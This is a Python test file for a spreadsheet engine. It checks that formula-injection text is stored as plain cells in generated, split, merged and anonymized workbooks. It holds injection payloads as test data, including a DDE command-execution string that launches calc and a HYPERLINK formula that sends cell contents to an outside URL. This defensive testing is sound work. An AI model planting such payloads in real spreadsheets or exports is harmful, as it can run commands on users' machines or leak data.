"""Formula injection: text from bursars or CSV (family ids, grid names,
tranche labels, structure name) that begins with ``=``, ``+``, ``-`` or ``@``
is written as text, never as a formula, in every workbook the engine writes
(generate, merge, split, anonymize): asserted in the files' XML.
"""

from __future__ import annotations

import json
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from workbook_engine.cli.main import main
from workbook_engine.federation.anonymize import anonymize
from workbook_engine.formats.sample import load_sample
from workbook_engine.formats.scenario_json import dumps_scenario, load_scenario_json
from workbook_engine.safety.gate import parse_xml

NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
STRUCTURE = '=HYPERLINK("http://example.invalid/?q="&A1,"Cliquez ici")'
GRID_NAMES = ("=A1+A2", "+Collège", "@SUM(1)")
LABEL = "-TrancheA"  # a tranche label
JSON_IDS = ("=1+1", "+33 6 00 00 00 00", "-12", "@SUM(A1:A9)")
CSV_IDS = ("=cmd|' /C calc'!A0", "+2", "-3,5", "@x")
PAYLOADS = (STRUCTURE, *GRID_NAMES, LABEL, *JSON_IDS, *CSV_IDS)


def hostile_scenario():
    s = load_sample()
    grids = tuple(
        replace(g, name=n, tranches=(replace(g.tranches[0], label=LABEL),) + g.tranches[1:])
        for g, n in zip(s.grids, GRID_NAMES)
    )
    families = tuple(replace(f, id=i) for f, i in zip(s.families, JSON_IDS)) + s.families[len(JSON_IDS) : 20]
    return replace(s, structure=STRUCTURE, grids=grids, families=families)


def cells(path: Path) -> list[tuple[str, str, str | None, str | None]]:
    """(part, cell type, text shown, formula) of every cell of every sheet."""
    out = []
    with zipfile.ZipFile(path) as z:
        names = z.namelist()
        shared = []
        if "xl/sharedStrings.xml" in names:
            shared = [
                "".join(t.text or "" for t in si.iter(f"{NS}t"))
                for si in parse_xml(z.read("xl/sharedStrings.xml")).iter(f"{NS}si")
            ]
        for part in (n for n in names if n.startswith("xl/worksheets/") and n.endswith(".xml")):
            for c in parse_xml(z.read(part)).iter(f"{NS}c"):
                t = c.get("t", "n")
                f, v = c.find(f"{NS}f"), c.find(f"{NS}v")
                text = None
                if t == "s" and v is not None:
                    text = shared[int(v.text)]
                elif t == "inlineStr":
                    text = "".join(x.text or "" for x in c.iter(f"{NS}t"))
                elif t == "str" and v is not None:
                    text = v.text
                out.append((part, t, text, None if f is None else (f.text or "")))
    return out


def assert_written_as_text(path: Path, payloads: tuple[str, ...]) -> None:
    """Each payload is in a plain text cell (the input), and no formula is
    the payload: formula cells may *show* it (a header repeating a grid
    name computes a string; Excel never evaluates a string result)."""
    found = cells(path)
    formulas = [c[3] for c in found if c[3] is not None]
    for payload in payloads:
        holding = [c for c in found if c[2] == payload]
        assert [c for c in holding if c[1] in ("s", "inlineStr") and c[3] is None], (
            f"{path.name}: « {payload} » is in no text cell: {holding}"
        )
        body = payload[1:]
        for _part, t, _text, formula in holding:  # (a short body like "2" is in many formulas)
            assert formula is None or len(body) < 5 or body not in formula, (path.name, t, formula, payload)
        assert payload not in formulas and body not in formulas, payload
    assert not [f for f in formulas if "cmd|" in f or "HYPERLINK" in f or "SUM(1)" in f]


@pytest.fixture(scope="module")
def outputs(tmp_path_factory) -> dict[str, Path]:
    """generate (JSON + CSV families), split, merge and anonymize outputs."""
    d = tmp_path_factory.mktemp("injection")
    s = hostile_scenario()
    (d / "s.json").write_text(dumps_scenario(s), encoding="utf-8")
    header = "id;rfr_1;parts;notice;pupils_g1;pupils_g2;pupils_g3\n"
    rows = "".join(f"{i};{30000 + k};2;oui;1;0;1\n" for k, i in enumerate(JSON_IDS + CSV_IDS))
    (d / "f.csv").write_text(header + rows, encoding="utf-8")
    out = {"generate": d / "g.xlsx", "generate_csv": d / "gcsv.xlsx", "merge": d / "m.xlsx"}
    assert main(["generate", str(d / "s.json"), "-o", str(out["generate"])]) == 0
    assert main(["generate", str(d / "s.json"), "--families", str(d / "f.csv"), "-o", str(out["generate_csv"])]) == 0
    assert main(["split", str(out["generate_csv"]), "--grids", "1", "--grids", "2,3", "-o", str(d / "parts")]) == 0
    out["split_1"] = d / "parts" / "gcsv_grilles_1.xlsx"
    out["split_23"] = d / "parts" / "gcsv_grilles_2-3.xlsx"
    assert main(["merge", str(out["split_1"]), str(out["split_23"]), "-o", str(out["merge"])]) == 0
    return out


@pytest.mark.slow
def test_generate_writes_injected_text_as_text(outputs):
    assert_written_as_text(outputs["generate"], (STRUCTURE, *GRID_NAMES, LABEL, *JSON_IDS))


def test_generate_with_csv_families_writes_injected_text_as_text(outputs):
    assert_written_as_text(outputs["generate_csv"], (STRUCTURE, *GRID_NAMES, LABEL, *JSON_IDS, *CSV_IDS))


def test_split_writes_injected_text_as_text(outputs):
    assert_written_as_text(outputs["split_1"], (STRUCTURE, GRID_NAMES[0], LABEL, *JSON_IDS, *CSV_IDS))
    assert_written_as_text(outputs["split_23"], (STRUCTURE, *GRID_NAMES[1:], LABEL, *JSON_IDS, *CSV_IDS))


def test_merge_writes_injected_text_as_text(outputs):
    assert_written_as_text(outputs["merge"], (STRUCTURE, *GRID_NAMES, LABEL, *JSON_IDS, *CSV_IDS))


@pytest.mark.slow
def test_anonymize_writes_injected_text_as_text(outputs, tmp_path):
    out = tmp_path / "anonyme.xlsx"
    anonymize(outputs["merge"], out, b"k" * 32)
    assert_written_as_text(out, (STRUCTURE, *GRID_NAMES, LABEL))


def test_injected_text_reads_back_unchanged(outputs, tmp_path):
    """Read back, every text is what was typed (none was evaluated)."""
    out = tmp_path / "back.json"
    assert main(["read", str(outputs["merge"]), "-o", str(out)]) == 0
    back = load_scenario_json(out)
    assert back.structure == STRUCTURE
    assert [g.name for g in back.grids] == list(GRID_NAMES)
    assert {g.tranches[0].label for g in back.grids} == {LABEL}
    assert set(JSON_IDS + CSV_IDS) <= {f.id for f in back.families}
    assert json.loads(out.read_text(encoding="utf-8"))["structure"] == STRUCTURE
